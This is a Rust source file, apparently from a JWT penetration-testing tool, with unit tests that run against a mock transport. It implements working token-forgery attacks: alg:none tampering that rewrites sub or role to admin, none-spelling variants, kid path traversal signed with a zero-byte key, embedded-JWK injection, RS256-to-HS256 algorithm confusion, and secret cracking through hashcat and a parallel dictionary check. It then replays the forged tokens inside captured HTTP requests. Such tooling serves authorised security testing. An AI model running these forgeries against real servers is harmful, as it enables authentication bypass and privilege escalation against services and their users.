//! The attack strategies. Each one decodes the target token without
//! verifying its signature, forges one or more mutated tokens, and (for the
//! replayed attacks) substitutes them into the original raw request to judge
//! the server's reaction.

use std::path::Path;
use std::process::Command;

use jsonwebtoken::{decode, Algorithm, DecodingKey, Validation};
use rayon::prelude::*;
use rsa::pkcs8::{EncodePublicKey, LineEnding};
use rsa::traits::PublicKeyParts;
use rsa::{BigUint, RsaPrivateKey, RsaPublicKey};
use serde_json::{json, Map, Value};

use crate::constants;
use crate::error::ReplayError;
use crate::jwt_core::{codec, signing};
use crate::replay::{status_of, Replay};
use crate::types::{
    Claims, CrackOutcome, ForgeOutcome, KidAttempt, KidTraversalOutcome, NoneAttempt,
    NoneBypassOutcome, ReplayOptions, TamperOutcome,
};

pub struct JwtAttacker<R: Replay> {
    replayer: R,
}

impl<R: Replay> JwtAttacker<R> {
    pub fn new(replayer: R) -> Self {
        JwtAttacker { replayer }
    }

    /// Header and payload of a token, no signature check.
    fn decode_unverified(
        token: &str,
    ) -> Result<(Map<String, Value>, Map<String, Value>), ReplayError> {
        let parts: Vec<&str> = token.split('.').collect();
        if parts.len() < 2 {
            return Err(ReplayError::InvalidToken);
        }
        let header = codec::decode_object_segment(parts[0])?;
        let payload = codec::decode_object_segment(parts[1])?;
        Ok((header, payload))
    }

    /// Tamper with the payload and resubmit unsigned: `sub` becomes `admin`
    /// when present, else `role`, else a `modified` marker claim is added.
    /// The forged token always carries `alg: none` with an empty signature,
    /// whatever the original algorithm was. Accepted when the replayed
    /// status is below 400.
    pub async fn unverified_signature(
        &self,
        token: &str,
        request_text: &str,
        options: &ReplayOptions,
    ) -> Result<TamperOutcome, ReplayError> {
        let (_header, mut payload) = Self::decode_unverified(token)?;

        if payload.contains_key("sub") {
            payload.insert("sub".to_string(), json!("admin"));
        } else if payload.contains_key("role") {
            payload.insert("role".to_string(), json!("admin"));
        } else {
            payload.insert("modified".to_string(), json!("true"));
        }

        let mut forged_header = Map::new();
        forged_header.insert("typ".to_string(), json!("JWT"));
        forged_header.insert("alg".to_string(), json!("none"));
        let modified_token = codec::encode_token(&forged_header, &payload, None)?;

        let modified_request = request_text.replace(token, &modified_token);
        match self.replayer.replay(&modified_request, options).await {
            Ok(response) => {
                let status_code = status_of(&response);
                let success = status_code.map_or(false, |code| code < 400);
                Ok(TamperOutcome {
                    success,
                    modified_token,
                    status_code,
                    response: Some(response),
                    details: "Tampered payload re-encoded with 'alg' set to 'none'".to_string(),
                })
            }
            Err(err) => Ok(TamperOutcome {
                success: false,
                modified_token,
                status_code: None,
                response: None,
                details: format!("Replay failed: {}", err),
            }),
        }
    }

    /// Probe the `none` algorithm spellings in fixed order, stopping at the
    /// first replay answered with 200 or 302. Every attempt is recorded.
    pub async fn none_signature(
        &self,
        token: &str,
        request_text: &str,
        options: &ReplayOptions,
    ) -> Result<NoneBypassOutcome, ReplayError> {
        let (header, payload) = Self::decode_unverified(token)?;
        let mut all_results: Vec<NoneAttempt> = Vec::new();

        for variation in constants::NONE_VARIATIONS {
            let mut new_header = header.clone();
            new_header.insert("alg".to_string(), json!(variation));
            let modified_token = codec::encode_token(&new_header, &payload, None)?;
            let modified_request = request_text.replace(token, &modified_token);

            match self.replayer.replay(&modified_request, options).await {
                Ok(response) => {
                    let status_code = status_of(&response);
                    let success = matches!(status_code, Some(200) | Some(302));
                    all_results.push(NoneAttempt {
                        variation: variation.to_string(),
                        token: Some(modified_token.clone()),
                        status_code,
                        success,
                        response: Some(response.clone()),
                        error: None,
                    });
                    if success {
                        return Ok(NoneBypassOutcome {
                            success: true,
                            modified_token: Some(modified_token),
                            successful_variation: Some(variation.to_string()),
                            all_results,
                            response: Some(response),
                            details: format!(
                                "Successfully created token with 'alg' set to '{}'",
                                variation
                            ),
                        });
                    }
                }
                Err(err) => all_results.push(NoneAttempt {
                    variation: variation.to_string(),
                    token: None,
                    status_code: None,
                    success: false,
                    response: None,
                    error: Some(err.to_string()),
                }),
            }
        }

        Ok(NoneBypassOutcome {
            success: false,
            modified_token: None,
            successful_variation: None,
            all_results,
            response: None,
            details: "All variations of 'none' algorithm failed".to_string(),
        })
    }

    /// Point `kid` at null-device-like paths and sign with the single zero
    /// byte such a key file would yield. Paths are probed in fixed order,
    /// stopping at the first replay answered with 200 or 302.
    pub async fn kid_traversal(
        &self,
        token: &str,
        request_text: &str,
        options: &ReplayOptions,
    ) -> Result<KidTraversalOutcome, ReplayError> {
        let (header, payload) = Self::decode_unverified(token)?;
        let mut all_results: Vec<KidAttempt> = Vec::new();

        for path in constants::KID_NULL_PATHS {
            let mut new_header = header.clone();
            new_header.insert("kid".to_string(), json!(path));
            let modified_token =
                signing::sign_token_with_hmac_key(&new_header, &payload, &constants::KID_NULL_KEY)?;
            let modified_request = request_text.replace(token, &modified_token);

            match self.replayer.replay(&modified_request, options).await {
                Ok(response) => {
                    let status_code = status_of(&response);
                    let success = matches!(status_code, Some(200) | Some(302));
                    all_results.push(KidAttempt {
                        path: path.to_string(),
                        token: modified_token.clone(),
                        status_code,
                        success,
                        response: Some(response.clone()),
                        error: None,
                    });
                    if success {
                        return Ok(KidTraversalOutcome {
                            success: true,
                            modified_token: Some(modified_token),
                            successful_path: Some(path.to_string()),
                            all_results,
                            response: Some(response),
                            details: format!(
                                "Successfully created token with KID path traversal: {}",
                                path
                            ),
                        });
                    }
                }
                Err(err) => all_results.push(KidAttempt {
                    path: path.to_string(),
                    token: modified_token,
                    status_code: None,
                    success: false,
                    response: None,
                    error: Some(err.to_string()),
                }),
            }
        }

        Ok(KidTraversalOutcome {
            success: false,
            modified_token: None,
            successful_path: None,
            all_results,
            response: None,
            details: "All KID path traversal attempts failed".to_string(),
        })
    }

    /// Forge a token carrying a freshly generated RSA public key as an
    /// embedded `jwk` header, signed with the matching private key. Nothing
    /// is replayed; the token is for manual use.
    pub fn jwk_injection(&self, token: &str) -> Result<ForgeOutcome, ReplayError> {
        let (_header, payload) = Self::decode_unverified(token)?;

        let mut rng = rand::thread_rng();
        let private_key = RsaPrivateKey::new(&mut rng, constants::RSA_KEY_BITS)
            .map_err(|err| ReplayError::KeyFormat(err.to_string()))?;
        let public_key = RsaPublicKey::from(&private_key);

        let mut jwk = Map::new();
        jwk.insert("kty".to_string(), json!("RSA"));
        jwk.insert(
            "n".to_string(),
            json!(base64::encode_config(
                public_key.n().to_bytes_be(),
                base64::URL_SAFE_NO_PAD
            )),
        );
        jwk.insert(
            "e".to_string(),
            json!(base64::encode_config(
                public_key.e().to_bytes_be(),
                base64::URL_SAFE_NO_PAD
            )),
        );

        let mut new_header = Map::new();
        new_header.insert("alg".to_string(), json!("RS256"));
        new_header.insert("jwk".to_string(), Value::Object(jwk));

        let modified_token = signing::sign_token_rs256(&new_header, &payload, &private_key)?;

        Ok(ForgeOutcome {
            success: true,
            modified_token,
            details: "Created token with injected JWK header and signed with generated RSA key"
                .to_string(),
        })
    }

    /// Downgrade an RSA token to HS256, using the textual encoding of its
    /// own embedded public key as the HMAC secret. Requires an RSA `jwk` in
    /// the header. Nothing is replayed.
    pub fn algorithm_confusion(&self, token: &str) -> Result<ForgeOutcome, ReplayError> {
        let (header, payload) = Self::decode_unverified(token)?;

        let jwk = header
            .get("jwk")
            .and_then(Value::as_object)
            .ok_or(ReplayError::MissingJwk)?;
        if jwk.get("kty").and_then(Value::as_str) != Some("RSA") {
            return Err(ReplayError::UnsupportedKeyType);
        }

        let modulus = jwk
            .get("n")
            .and_then(Value::as_str)
            .ok_or_else(|| ReplayError::KeyFormat("JWK has no modulus".to_string()))
            .and_then(codec::decode_segment)?;
        let exponent = jwk
            .get("e")
            .and_then(Value::as_str)
            .ok_or_else(|| ReplayError::KeyFormat("JWK has no exponent".to_string()))
            .and_then(codec::decode_segment)?;

        let public_key = RsaPublicKey::new(
            BigUint::from_bytes_be(&modulus),
            BigUint::from_bytes_be(&exponent),
        )
        .map_err(|err| ReplayError::KeyFormat(err.to_string()))?;
        let pem = public_key
            .to_public_key_pem(LineEnding::LF)
            .map_err(|err| ReplayError::KeyFormat(err.to_string()))?;
        let pem_base64 = base64::encode(pem.as_bytes());

        let mut new_header = header.clone();
        new_header.insert("alg".to_string(), json!("HS256"));
        let modified_token = signing::sign_token(&new_header, &payload, "HS256", &pem_base64)?;

        Ok(ForgeOutcome {
            success: true,
            modified_token,
            details:
                "Created token using algorithm confusion attack (RSA public key as HMAC secret)"
                    .to_string(),
        })
    }

    /// Hand the token to hashcat in JWT mode against a wordlist file.
    /// Wordlist problems and tool failures are distinct named errors; a
    /// clean run without a match reports not-found with the captured tool
    /// output.
    pub fn brute_force(&self, token: &str, wordlist: &Path) -> Result<CrackOutcome, ReplayError> {
        if token.is_empty() || !token.contains('.') {
            return Err(ReplayError::InvalidToken);
        }
        if !wordlist.exists() {
            return Err(ReplayError::WordlistNotFound(wordlist.display().to_string()));
        }
        let wordlist_size = std::fs::metadata(wordlist)?.len();
        if wordlist_size == 0 {
            return Err(ReplayError::WordlistEmpty(wordlist.display().to_string()));
        }

        let token_file =
            std::env::temp_dir().join(format!("rusty_replay_token_{}.txt", std::process::id()));
        std::fs::write(&token_file, token)?;

        let result = Command::new("hashcat")
            .args(["-a", "0", "-m", constants::HASHCAT_JWT_MODE, "--force", "--potfile-disable"])
            .arg(&token_file)
            .arg(wordlist)
            .output();
        let _ = std::fs::remove_file(&token_file);

        let output = match result {
            Ok(output) => output,
            Err(err) => return Err(ReplayError::CrackerUnavailable(err.to_string())),
        };

        let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
        let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
        let mut log: Vec<String> = vec![
            format!("Token length: {}", token.len()),
            format!("Wordlist path: {}", wordlist.display()),
            format!("Wordlist size: {} bytes", wordlist_size),
        ];
        log.extend(stdout.lines().map(String::from));
        log.extend(stderr.lines().map(String::from));

        if output.status.success() || stdout.contains("Cracked") {
            // the potfile line is "<hash>:<plain>"
            for line in stdout.lines() {
                if let Some(secret) = line.strip_prefix(token).and_then(|rest| rest.strip_prefix(':')) {
                    let secret = secret.trim().to_string();
                    return Ok(CrackOutcome {
                        success: true,
                        secret: Some(secret.clone()),
                        details: format!("Found matching secret key: {}", secret),
                        output: log,
                    });
                }
            }
        }

        if !output.status.success() && !stdout.contains("Cracked") {
            return Err(ReplayError::CrackerFailed(format!(
                "hashcat exited with {}: {}",
                output.status,
                stderr.lines().last().unwrap_or("no output")
            )));
        }

        Ok(CrackOutcome {
            success: false,
            secret: None,
            details: "The secret key was not found in the provided wordlist. Please check if the wordlist contains the correct secret.".to_string(),
            output: log,
        })
    }

    /// In-process dictionary check: verify each candidate secret in
    /// parallel against the token's own HMAC signature. Faster than the
    /// external tool for short lists; falls back to the built-in common
    /// secrets when no wordlist is given.
    pub fn quick_crack(
        &self,
        token: &str,
        wordlist: Option<&Path>,
    ) -> Result<Option<String>, ReplayError> {
        let parts: Vec<&str> = token.split('.').collect();
        if parts.len() != 3 {
            return Err(ReplayError::InvalidToken);
        }

        let header = codec::decode_object_segment(parts[0])?;
        let algorithm = match header.get("alg").and_then(Value::as_str) {
            Some("HS256") => Algorithm::HS256,
            Some("HS384") => Algorithm::HS384,
            Some("HS512") => Algorithm::HS512,
            Some(other) => return Err(ReplayError::UnsupportedAlgorithm(other.to_string())),
            None => return Err(ReplayError::Codec("token header has no 'alg' value".to_string())),
        };

        let candidates: Vec<String> = match wordlist {
            Some(path) => std::fs::read_to_string(path)?
                .lines()
                .map(String::from)
                .collect(),
            None => constants::JWT_COMMON.lines().map(String::from).collect(),
        };

        let mut validation = Validation::new(algorithm);
        validation.validate_exp = false;
        validation.validate_nbf = false;
        validation.validate_aud = false;
        validation.required_spec_claims = Default::default();

        let found = candidates.par_iter().find_map_any(|secret| {
            let secret = secret.trim();
            decode::<Claims>(
                token,
                &DecodingKey::from_secret(secret.as_bytes()),
                &validation,
            )
            .ok()
            .map(|_| secret.to_string())
        });

        Ok(found)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::VecDeque;
    use std::sync::Mutex;

    /// Canned transport: pops one scripted response per replay and records
    /// every request it was handed.
    struct MockReplay {
        responses: Mutex<VecDeque<Result<String, ReplayError>>>,
        requests: Mutex<Vec<String>>,
    }

    impl MockReplay {
        fn with_statuses(statuses: &[u16]) -> Self {
            let responses = statuses
                .iter()
                .map(|status| Ok(format!("HTTP/1.1 {} X\r\n\r\n", status)))
                .collect();
            MockReplay {
                responses: Mutex::new(responses),
                requests: Mutex::new(Vec::new()),
            }
        }
    }

    impl Replay for MockReplay {
        async fn replay(
            &self,
            request_text: &str,
            _options: &ReplayOptions,
        ) -> Result<String, ReplayError> {
            self.requests.lock().unwrap().push(request_text.to_string());
            self.responses
                .lock()
                .unwrap()
                .pop_front()
                .unwrap_or_else(|| Ok("HTTP/1.1 404 Not Found\r\n\r\n".to_string()))
        }
    }

    fn object(pairs: &[(&str, Value)]) -> Map<String, Value> {
        pairs
            .iter()
            .map(|(key, value)| (key.to_string(), value.clone()))
            .collect()
    }

    fn sample_token(payload: &[(&str, Value)]) -> String {
        let header = object(&[("alg", json!("HS256")), ("typ", json!("JWT"))]);
        codec::encode_token(&header, &object(payload), Some(b"sig")).unwrap()
    }

    fn request_with(token: &str) -> String {
        format!(
            "GET /account HTTP/1.1\nHost: example.com\nAuthorization: Bearer {}\n",
            token
        )
    }

    #[tokio::test]
    async fn tamper_rewrites_sub_and_strips_signature() {
        let token = sample_token(&[("sub", json!("user-7")), ("role", json!("viewer"))]);
        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[302]));

        let outcome = attacker
            .unverified_signature(&token, &request_with(&token), &ReplayOptions::default())
            .await
            .unwrap();

        assert!(outcome.success);
        assert_eq!(outcome.status_code, Some(302));

        let parts: Vec<&str> = outcome.modified_token.split('.').collect();
        assert_eq!(parts.len(), 3);
        assert!(parts[2].is_empty());
        let header = codec::decode_object_segment(parts[0]).unwrap();
        assert_eq!(header.get("alg"), Some(&json!("none")));
        let payload = codec::decode_object_segment(parts[1]).unwrap();
        // `sub` takes precedence over `role`
        assert_eq!(payload.get("sub"), Some(&json!("admin")));
        assert_eq!(payload.get("role"), Some(&json!("viewer")));
    }

    #[tokio::test]
    async fn tamper_falls_back_to_marker_claim() {
        let token = sample_token(&[("session", json!("abc"))]);
        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[500]));

        let outcome = attacker
            .unverified_signature(&token, &request_with(&token), &ReplayOptions::default())
            .await
            .unwrap();

        // 500 is not below 400
        assert!(!outcome.success);
        let payload = codec::decode_object_segment(
            outcome.modified_token.split('.').nth(1).unwrap(),
        )
        .unwrap();
        assert_eq!(payload.get("modified"), Some(&json!("true")));
    }

    #[tokio::test]
    async fn tamper_substitutes_token_in_request() {
        let token = sample_token(&[("sub", json!("x"))]);
        let mock = MockReplay::with_statuses(&[200]);
        let attacker = JwtAttacker::new(mock);

        let outcome = attacker
            .unverified_signature(&token, &request_with(&token), &ReplayOptions::default())
            .await
            .unwrap();

        let sent = attacker.replayer.requests.lock().unwrap();
        assert!(!sent[0].contains(&token));
        assert!(sent[0].contains(&outcome.modified_token));
    }

    #[tokio::test]
    async fn none_attack_tries_variations_in_order_and_stops_on_success() {
        let token = sample_token(&[("sub", json!("a"))]);
        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[403, 403, 403, 200]));

        let outcome = attacker
            .none_signature(&token, &request_with(&token), &ReplayOptions::default())
            .await
            .unwrap();

        assert!(outcome.success);
        assert_eq!(outcome.successful_variation.as_deref(), Some("nOnE"));
        assert_eq!(outcome.all_results.len(), 4);
        let order: Vec<&str> = outcome
            .all_results
            .iter()
            .map(|attempt| attempt.variation.as_str())
            .collect();
        assert_eq!(order, vec!["none", "None", "NONE", "nOnE"]);
        // every forged variant is unsigned
        for attempt in &outcome.all_results {
            assert!(attempt.token.as_ref().unwrap().ends_with('.'));
        }
    }

    #[tokio::test]
    async fn none_attack_short_circuits_on_first_hit() {
        let token = sample_token(&[("sub", json!("a"))]);
        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[302]));

        let outcome = attacker
            .none_signature(&token, &request_with(&token), &ReplayOptions::default())
            .await
            .unwrap();

        assert_eq!(outcome.all_results.len(), 1);
        assert_eq!(outcome.successful_variation.as_deref(), Some("none"));
    }

    #[tokio::test]
    async fn none_attack_reports_failure_with_full_log() {
        let token = sample_token(&[("sub", json!("a"))]);
        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[403, 401, 403, 403]));

        let outcome = attacker
            .none_signature(&token, &request_with(&token), &ReplayOptions::default())
            .await
            .unwrap();

        assert!(!outcome.success);
        assert!(outcome.successful_variation.is_none());
        assert_eq!(outcome.all_results.len(), 4);
    }

    #[tokio::test]
    async fn kid_attack_probes_fixed_paths_with_zero_byte_key() {
        let token = sample_token(&[("sub", json!("a"))]);
        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[404; 10]));

        let outcome = attacker
            .kid_traversal(&token, &request_with(&token), &ReplayOptions::default())
            .await
            .unwrap();

        assert!(!outcome.success);
        assert_eq!(outcome.all_results.len(), 10);
        let order: Vec<&str> = outcome
            .all_results
            .iter()
            .map(|attempt| attempt.path.as_str())
            .collect();
        assert_eq!(order, constants::KID_NULL_PATHS.to_vec());

        // every attempt must be signed with the single zero byte
        for attempt in &outcome.all_results {
            let parts: Vec<&str> = attempt.token.split('.').collect();
            let expected = signing::hmac_sha256(
                &constants::KID_NULL_KEY,
                format!("{}.{}", parts[0], parts[1]).as_bytes(),
            )
            .unwrap();
            assert_eq!(
                parts[2],
                base64::encode_config(expected, base64::URL_SAFE_NO_PAD)
            );
            let header = codec::decode_object_segment(parts[0]).unwrap();
            assert_eq!(header.get("kid"), Some(&json!(attempt.path)));
        }
    }

    #[tokio::test]
    async fn kid_attack_stops_at_first_accepted_path() {
        let token = sample_token(&[("sub", json!("a"))]);
        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[403, 200]));

        let outcome = attacker
            .kid_traversal(&token, &request_with(&token), &ReplayOptions::default())
            .await
            .unwrap();

        assert!(outcome.success);
        assert_eq!(outcome.successful_path.as_deref(), Some("\\dev\\null"));
        assert_eq!(outcome.all_results.len(), 2);
    }

    #[test]
    fn jwk_injection_embeds_fresh_public_key() {
        let token = sample_token(&[("sub", json!("a"))]);
        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[]));

        let outcome = attacker.jwk_injection(&token).unwrap();
        assert!(outcome.success);

        let parts: Vec<&str> = outcome.modified_token.split('.').collect();
        assert_eq!(parts.len(), 3);
        assert!(!parts[2].is_empty());

        let header = codec::decode_object_segment(parts[0]).unwrap();
        assert_eq!(header.get("alg"), Some(&json!("RS256")));
        let jwk = header.get("jwk").and_then(Value::as_object).unwrap();
        assert_eq!(jwk.get("kty"), Some(&json!("RSA")));
        assert!(jwk.get("n").and_then(Value::as_str).is_some());
        assert_eq!(jwk.get("e"), Some(&json!("AQAB")));
    }

    #[test]
    fn algorithm_confusion_requires_embedded_jwk() {
        let token = sample_token(&[("sub", json!("a"))]);
        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[]));
        assert!(matches!(
            attacker.algorithm_confusion(&token),
            Err(ReplayError::MissingJwk)
        ));
    }

    #[test]
    fn algorithm_confusion_rejects_non_rsa_keys() {
        let header = object(&[
            ("alg", json!("ES256")),
            ("jwk", json!({"kty": "EC", "crv": "P-256"})),
        ]);
        let token = codec::encode_token(&header, &object(&[("sub", json!("a"))]), Some(b"s")).unwrap();
        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[]));
        assert!(matches!(
            attacker.algorithm_confusion(&token),
            Err(ReplayError::UnsupportedKeyType)
        ));
    }

    #[test]
    fn algorithm_confusion_signs_with_pem_of_embedded_key() {
        let mut rng = rand::thread_rng();
        let private_key = RsaPrivateKey::new(&mut rng, 512).unwrap();
        let public_key = RsaPublicKey::from(&private_key);

        let header = object(&[
            ("alg", json!("RS256")),
            (
                "jwk",
                json!({
                    "kty": "RSA",
                    "n": base64::encode_config(public_key.n().to_bytes_be(), base64::URL_SAFE_NO_PAD),
                    "e": base64::encode_config(public_key.e().to_bytes_be(), base64::URL_SAFE_NO_PAD),
                }),
            ),
        ]);
        let token = codec::encode_token(&header, &object(&[("sub", json!("a"))]), Some(b"s")).unwrap();

        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[]));
        let outcome = attacker.algorithm_confusion(&token).unwrap();

        let parts: Vec<&str> = outcome.modified_token.split('.').collect();
        let forged_header = codec::decode_object_segment(parts[0]).unwrap();
        assert_eq!(forged_header.get("alg"), Some(&json!("HS256")));

        let pem = public_key.to_public_key_pem(LineEnding::LF).unwrap();
        let secret = base64::encode(pem.as_bytes());
        let expected = signing::hmac_sha256(
            secret.as_bytes(),
            format!("{}.{}", parts[0], parts[1]).as_bytes(),
        )
        .unwrap();
        assert_eq!(
            parts[2],
            base64::encode_config(expected, base64::URL_SAFE_NO_PAD)
        );
    }

    #[test]
    fn brute_force_distinguishes_missing_and_empty_wordlists() {
        let token = sample_token(&[("sub", json!("a"))]);
        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[]));

        let missing = Path::new("/nonexistent/wordlist.txt");
        assert!(matches!(
            attacker.brute_force(&token, missing),
            Err(ReplayError::WordlistNotFound(_))
        ));

        let empty = std::env::temp_dir().join(format!("rusty_replay_empty_{}", std::process::id()));
        std::fs::write(&empty, "").unwrap();
        let result = attacker.brute_force(&token, &empty);
        std::fs::remove_file(&empty).unwrap();
        assert!(matches!(result, Err(ReplayError::WordlistEmpty(_))));
    }

    #[test]
    fn brute_force_rejects_undotted_token() {
        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[]));
        assert!(matches!(
            attacker.brute_force("notatoken", Path::new("/tmp/words")),
            Err(ReplayError::InvalidToken)
        ));
    }

    #[test]
    fn quick_crack_recovers_common_secret() {
        let header = object(&[("alg", json!("HS256")), ("typ", json!("JWT"))]);
        let payload = object(&[("sub", json!("1234567890"))]);
        let token = signing::sign_token(&header, &payload, "HS256", "secret").unwrap();

        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[]));
        let found = attacker.quick_crack(&token, None).unwrap();
        assert_eq!(found.as_deref(), Some("secret"));
    }

    #[test]
    fn quick_crack_reports_none_for_strong_secret() {
        let header = object(&[("alg", json!("HS256"))]);
        let payload = object(&[("sub", json!("a"))]);
        let token =
            signing::sign_token(&header, &payload, "HS256", "3fd1c2a9-not-in-any-list").unwrap();

        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[]));
        assert!(attacker.quick_crack(&token, None).unwrap().is_none());
    }

    #[test]
    fn quick_crack_rejects_rsa_tokens() {
        let header = object(&[("alg", json!("RS256"))]);
        let payload = object(&[("sub", json!("a"))]);
        let token = codec::encode_token(&header, &payload, Some(b"sig")).unwrap();

        let attacker = JwtAttacker::new(MockReplay::with_statuses(&[]));
        assert!(matches!(
            attacker.quick_crack(&token, None),
            Err(ReplayError::UnsupportedAlgorithm(_))
        ));
    }
}
